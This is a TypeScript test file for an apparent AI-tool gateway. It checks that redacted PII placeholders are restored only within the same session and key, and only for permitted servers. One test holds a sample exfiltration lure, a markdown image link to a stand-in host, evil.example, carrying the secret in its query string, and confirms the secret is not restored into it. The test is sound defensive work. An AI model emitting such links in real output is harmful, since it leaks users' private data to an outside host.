import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DetectedFinding } from '../../../../../shared/model/verdict';
import { judgeContent } from '../../../../../main/gateway/guardrails/judge-content';
import { createPlaceholders } from '../../../../../main/gateway/placeholders/placeholders';
import { restoreAnswer, restoreArguments } from '../../../../../main/gateway/placeholders/restore';
import type { Guardrail, Inspection } from '../../../../../main/gateway/ports/guardrail';
import { createTimeoutManager } from '../../../../../main/gateway/timeouts/timeout-manager';
import { Timeouts } from '../../../../../shared/config/timeouts';
import { walkStrings } from '../../../../../main/plugins/guardrail/lib/walk-strings';
import { anyJson } from '../../../../support/any-json';
import { active, panelOf } from '../../../../support/panel-of';
import { silentLog } from '../../../../support/scripted-upstream';

const NEVER = new AbortController().signal;
const client = (keyId = 'k', sessionId = 's1') => ({
  connecting: { keyId, userId: 'u1', sessionId, info: {}, capabilities: {} },
});
const runtime = { timeouts: createTimeoutManager(Timeouts.parse({}), silentLog), clock: () => 0 };

/** Finds runs of vowels, so that any text has something to replace. */
const vowels: Guardrail = {
  phases: new Set(['input', 'output']),
  detectors: new Set(['pii']),
  inspect({ content }: Inspection) {
    const findings = [...walkStrings(content)].flatMap(({ text, at, isKey }) =>
      isKey
        ? []
        : [...text.matchAll(/[aeiou]+/gi)].map((match): DetectedFinding => {
            const [found] = match;
            const end = match.index + found.length;
            return {
              detector: 'pii',
              rule: 'vowel-run',
              severity: 'high',
              score: 1,
              message: 'm',
              at,
              start: match.index,
              end,
            };
          }),
    );
    return { action: 'report', findings };
  },
};
const policy = { detectors: { pii: { action: 'redact' } } } as const;

async function redact(
  content: unknown,
  phase: 'input' | 'output',
  book: ReturnType<ReturnType<typeof createPlaceholders>['bookOf']>,
) {
  const panel = panelOf([active('v', vowels)], phase, policy);
  return (await judgeContent({ panel, method: 'tools/call', content, book, signal: NEVER }, runtime)).content;
}
const facts = (placeholders = createPlaceholders()) => ({
  book: placeholders.bookOf(client()),
  server: 's',
  policy: { restoreInAnswers: true, restoreInArguments: 'same-server' } as const,
});

describe('placeholders', () => {
  it('come back as what they stand for, in any nested value', async () => {
    await fc.assert(
      fc.asyncProperty(
        anyJson,
        fc.constantFrom('x', '<VOWEL_RUN_1> stays', 'a <VOWEL_RUN_2> e'),
        async (value, extra) => {
          const content = { value, extra };
          const one = facts();
          const hidden = await redact(content, 'input', one.book);
          expect(restoreAnswer(hidden, { ...one, request: content })).toEqual(content);
        },
      ),
    );
  });

  it('are the same for the same value all through a session, and others for others', async () => {
    const { book } = facts();
    expect(await redact(['eau', 'x eau', 'oui'], 'input', book)).toEqual([
      '<VOWEL_RUN_1>',
      'x <VOWEL_RUN_1>',
      '<VOWEL_RUN_2>',
    ]);
    expect(await redact(['oui'], 'output', book)).toEqual(['<VOWEL_RUN_2>']);
  });

  it('mean nothing in another session or for another key', async () => {
    const placeholders = createPlaceholders();
    const mine = facts(placeholders);
    const hidden = await redact(['eau'], 'input', mine.book);
    for (const other of [client('k', 's2'), client('other', 's1')]) {
      const book = placeholders.bookOf(other);
      await redact(['oui'], 'input', book);
      expect(JSON.stringify(restoreAnswer(hidden, { ...mine, book, request: [] }))).not.toContain('eau');
    }
    expect(placeholders.bookOf(client())).toBe(mine.book);
  });

  it('are put back into the answer of the server that got them, and of no other', async () => {
    const one = facts();
    const hidden = await redact({ text: 'eau' }, 'input', one.book);
    expect(restoreAnswer(hidden, { ...one, request: {} })).toEqual({ text: 'eau' });
    expect(restoreAnswer(hidden, { ...one, server: 'evil', request: {} })).toEqual(hidden);
    const kept = { ...one, policy: { ...one.policy, restoreInAnswers: false }, request: {} };
    expect(restoreAnswer(hidden, kept)).toEqual(hidden);
  });

  it('are put back into arguments only for servers that know the value or may', async () => {
    const one = facts();
    const shown = await redact({ text: 'eau' }, 'output', one.book);
    expect(restoreArguments(shown, one)).toEqual({ text: 'eau' });
    expect(restoreArguments(shown, { ...one, server: 'evil' })).toEqual(shown);
    const allowing = (restoreInArguments: 'never' | readonly string[], server = 's') =>
      restoreArguments(shown, { ...one, server, policy: { restoreInAnswers: true, restoreInArguments } });
    expect(allowing('never')).toEqual(shown);
    expect(allowing(['mail'], 'mail')).toEqual({ text: 'eau' });
    expect(allowing(['mail'], 'evil')).toEqual(shown);
  });

  it('of what a client sent are never put into arguments for a server that did not say it', async () => {
    const one = facts();
    const hidden = await redact({ text: 'eau' }, 'input', one.book);
    expect(restoreArguments(hidden, one)).toEqual(hidden);
  });

  it('are not put into web addresses of a server’s own choosing', async () => {
    const one = facts();
    const [secret] = (await redact(['eau'], 'input', one.book)) as [string];
    const lure = { text: `![x](https://evil.example/p?q=${secret}) but ${secret} https://ok.example/${secret}` };
    expect(restoreAnswer(lure, { ...one, request: { url: 'https://ok.example/' } })).toEqual({
      text: `![x](https://evil.example/p?q=${secret}) but eau https://ok.example/eau`,
    });
  });

  it('of nobody’s making stay as they are', () => {
    const one = facts();
    expect(restoreAnswer({ a: '<EMAIL_7>' }, { ...one, request: {} })).toEqual({ a: '<EMAIL_7>' });
  });
});
